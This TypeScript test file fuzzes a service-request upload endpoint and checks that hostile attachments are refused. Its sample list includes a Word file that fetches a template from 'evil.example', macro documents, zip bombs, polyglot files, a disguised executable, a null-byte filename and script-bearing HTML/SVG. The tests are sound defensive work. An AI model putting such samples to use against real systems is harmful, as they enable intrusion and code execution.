import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { connect } from "node:net";
import { join } from "node:path";
import { setImmediate } from "node:timers/promises";
import { expect, test } from "vitest";
import { isHarmlessWordPackage } from "#leads/server/attachments/word-package.ts";
import { validateAttachment } from "#leads/engine/attachment.ts";
import { checkServiceRequest } from "#leads/service-request.contract.ts";
import { goodRequest, multipart, plainFormAccept } from "../api/forms.ts";
import { compoundFile, padTo, program, sampleFile, zip } from "../api/sample-files.ts";
import { startApp } from "../api/start-app.ts";
import { createRandom } from "./seeded-random.ts";
import { pickCount } from "./counts.ts";
import { mutate, type SentBody } from "./mutations.ts";

const count = pickCount(10_000, 800);
const path = "/api/service-requests";

type Started = Awaited<ReturnType<typeof startApp>>;

async function createValidBodies(): Promise<readonly SentBody[]> {
  const files = [
    undefined,
    ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({
      name: `brief.${type}`,
      bytes: sampleFile(type),
    })),
  ];
  const bodies = await Promise.all(
    [...files, { name: "large.pdf", bytes: padTo(70_000, sampleFile("pdf")) }].map((file) =>
      multipart(goodRequest, file),
    ),
  );
  return bodies.map(normalizeBoundary);
}

/**
 * A boundary is made up anew for every body: with one of our own the same seed damages the same
 * bytes.
 */
function normalizeBoundary({ headers, payload }: Awaited<ReturnType<typeof multipart>>): SentBody {
  const [, boundary = ""] = headers["content-type"].split("boundary=");
  const same = "-".repeat(4).padEnd(boundary.length, "b");
  return {
    type: headers["content-type"].replace(boundary, same),
    payload: Buffer.from(payload.toString("latin1").replaceAll(boundary, same), "latin1"),
  };
}

/** What is in the store or among the files and should not be. */
async function findWronglyStored({
  stored,
  keptFiles: listStoredFiles,
  dataDir,
}: Started): Promise<readonly unknown[]> {
  const wrong: unknown[] = [];
  const held = new Set<string>();
  for (const lead of await stored()) {
    if (
      lead.kind !== "service-request" ||
      !checkServiceRequest(lead, {
        serviceIds: ["seo", "web-design"],
        now: new Date("2026-11-21T12:00:00Z"),
      }).ok
    )
      wrong.push(lead);
    const attachment = lead.kind === "service-request" ? lead.attachment : undefined;
    if (attachment === undefined) continue;
    held.add(attachment.file);
    const content = await readFile(join(dataDir, "attachments", attachment.file));
    const isRight =
      createHash("sha256").update(content).digest("hex") === attachment.sha256 &&
      content.length === attachment.sizeBytes;
    const isGood =
      validateAttachment(attachment.name, content).ok &&
      (attachment.type !== "docx" || (await isHarmlessWordPackage(content)));
    if (!isRight || !isGood) wrong.push(attachment);
  }
  for (const file of await listStoredFiles()) if (!held.has(file)) wrong.push(file);
  return wrong;
}

test(`Q-25 Q-30 ${count} damaged forms: each is answered as what it is, nothing bad is kept and nothing is left behind`, async () => {
  const started = await startApp();
  const bodies = await createValidBodies();
  const random = createRandom(20_261_121);
  const statuses = new Map<number, number>();
  for (let i = 0; i < count; i++) {
    const { type, payload } = mutate(random.pick(bodies), random);
    const accept = random.below(4) === 0 ? plainFormAccept : "application/json";
    const { statusCode } = await started.app.inject({
      method: "POST",
      url: path,
      headers: { "content-type": type, accept },
      payload,
    });
    statuses.set(statusCode, (statuses.get(statusCode) ?? 0) + 1);
  }
  console.log(`${count} damaged forms: ${JSON.stringify(Object.fromEntries(statuses))}`);
  expect(
    [...statuses.keys()].filter((status) => ![200, 201, 400, 413, 415].includes(status)),
  ).toEqual([]);
  expect(statuses.get(400)).toBeGreaterThan(count / 4);
  expect(await findWronglyStored(started)).toEqual([]);
  for (const { type, payload } of bodies) {
    const { statusCode } = await started.app.inject({
      method: "POST",
      url: path,
      headers: { "content-type": type },
      payload,
    });
    expect([200, 201]).toContain(statusCode);
  }
});

const findWord = (parts: Parameters<typeof zip>[0]) =>
  zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
const template = `<Relationship Target="https://evil.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External"/>`;

/** Files that someone may send and no one should open. */
const hostileFiles: readonly (readonly [what: string, name: string, bytes: Uint8Array])[] = [
  ["a macro document", "brief.docx", findWord([{ name: "word/vbaProject.bin" }])],
  [
    "a macro document under another case",
    "brief.docx",
    findWord([{ name: "word/VBAPROJECT.BIN" }]),
  ],
  [
    "a document that fetches its template",
    "brief.docx",
    findWord([{ name: "word/_rels/settings.xml.rels", text: template }]),
  ],
  [
    "a bomb that says so",
    "brief.docx",
    findWord([{ name: "word/a.bin", unpackedBytes: 4_000_000_000 }]),
  ],
  [
    "a bomb that lies",
    "brief.docx",
    findWord([{ name: "word/a.bin", text: "\0".repeat(20_000_000), unpackedBytes: 100 }]),
  ],
  [
    "a macro document of the old kind",
    "brief.doc",
    compoundFile(["Root Entry", "WordDocument", "Macros", "_VBA_PROJECT"]),
  ],
  ["a spreadsheet of the old kind", "brief.doc", compoundFile(["Root Entry", "Workbook"])],
  [
    "a PDF that is an archive too",
    "brief.pdf",
    Buffer.concat([sampleFile("pdf"), sampleFile("docx")]),
  ],
  [
    "a picture that is an archive too",
    "photo.png",
    Buffer.concat([sampleFile("png"), zip([{ name: "index.html" }])]),
  ],
  ["a program named as a PDF", "brief.pdf", program],
  ["a program named twice", "brief.pdf.exe", program],
  [
    "a page named as a picture",
    "photo.jpg",
    Buffer.from("<!doctype html><script>alert(1)</script>"),
  ],
  [
    "a drawing with a script",
    "photo.svg",
    Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
  ],
  ["a picture under a PDF's name", "brief.pdf", sampleFile("png")],
  ["a PDF under a document's name", "brief.docx", sampleFile("pdf")],
  ["an archive", "brief.zip", zip([{ name: "a" }])],
  ["nothing at all", "brief.pdf", new Uint8Array()],
  ["one byte too many", "brief.pdf", padTo(5_242_881, sampleFile("pdf"))],
  ["a name that ends in nothing", "brief.pdf\0.exe", sampleFile("pdf")],
];

test("Q-24 Q-25 Q-28 none of the hostile files is taken, each is refused in words, and every good one is taken", async () => {
  const started = await startApp();
  const answers: unknown[] = [];
  for (const [what, name, content] of hostileFiles) {
    const { headers, payload } = await multipart(
      { ...goodRequest, projectDescription: what },
      { name, bytes: content },
    );
    const answer = await started.app.inject({ method: "POST", url: path, headers, payload });
    answers.push([what, answer.statusCode, answer.json().fields?.attachment]);
  }
  expect(answers).toEqual(
    hostileFiles.map(([what]) => [
      what,
      400,
      what === "one byte too many" ? "too-large" : "wrong-type",
    ]),
  );
  expect(await started.keptFiles()).toEqual([]);
  const goodFiles = [
    ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({
      name: `good.${type}`,
      bytes: sampleFile(type),
    })),
    { name: "عرض السعر.PDF", bytes: padTo(5_242_880, sampleFile("pdf")) },
    { name: "almost.pdf", bytes: padTo(5_242_879, sampleFile("pdf")) },
    {
      name: "template.docx",
      bytes: findWord([
        {
          name: "word/_rels/settings.xml.rels",
          text: template.replace("https://evil.example", "file:///C:/Users/Mona"),
        },
      ]),
    },
  ];
  for (const file of goodFiles) {
    const { headers, payload } = await multipart(
      { ...goodRequest, projectDescription: file.name },
      file,
    );
    expect(
      (await started.app.inject({ method: "POST", url: path, headers, payload })).statusCode,
    ).toBe(201);
  }
  expect(await findWronglyStored(started)).toEqual([]);
  expect(await started.keptFiles()).toHaveLength(goodFiles.length);
});

test("Q-30 damaged forms over a real connection, cut into pieces, never leave a client without an end and the server serves on", async () => {
  const started = await startApp();
  const url = new URL(await started.app.listen({ port: 0, host: "127.0.0.1" }));
  const bodies = await createValidBodies();
  const random = createRandom(7);
  const responses: string[] = [];
  for (let i = 0; i < pickCount(500, 60); i++) {
    const { type, payload } = mutate(random.pick(bodies), random);
    const pieces: Buffer[] = [];
    for (let at = 0; at < payload.length;)
      pieces.push(payload.subarray(at, (at += 1 + random.below(payload.length))));
    const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: ${type.replace(/[^ -~]/g, "")}\r\nContent-Length: ${payload.length}\r\n\r\n`;
    responses.push(await sendRaw(Number(url.port), [head, ...pieces]));
  }
  expect(responses.filter((answer) => !/^HTTP\/1\.1 (201|200|400|413|415) /.test(answer))).toEqual(
    [],
  );
  expect((await fetch(new URL("/api/health", url))).status).toBe(200);
  expect(await findWronglyStored(started)).toEqual([]);
});

test("Q-30 a large part that is no field, in one piece, does not keep the form waiting", async () => {
  const { app } = await startApp();
  const payload = `--b\r\nX-Disposition: form-data; name="a"\r\n\r\n${"x".repeat(300_000)}\r\n--b--\r\n`;
  const { statusCode } = await app.inject({
    method: "POST",
    url: path,
    headers: { "content-type": "multipart/form-data; boundary=b" },
    payload,
  });
  expect(statusCode).toBe(400);
});

/** Says something to a port, piece by piece, and listens until the other side ends. */
function sendRaw(port: number, pieces: readonly (string | Buffer)[]): Promise<string> {
  return new Promise((resolve) => {
    let received = "";
    const socket = connect(port, "127.0.0.1", async () => {
      for (const piece of pieces) {
        if (socket.writable) socket.write(piece);
        await setImmediate();
      }
    });
    // A form that is refused by its head is answered before it is sent.
    socket.setNoDelay().on("error", () => undefined);
    socket.on("data", (chunk) => (received += chunk.toString("latin1")));
    socket.once("close", () => resolve(received.split("\r\n", 1)[0]!));
  });
}
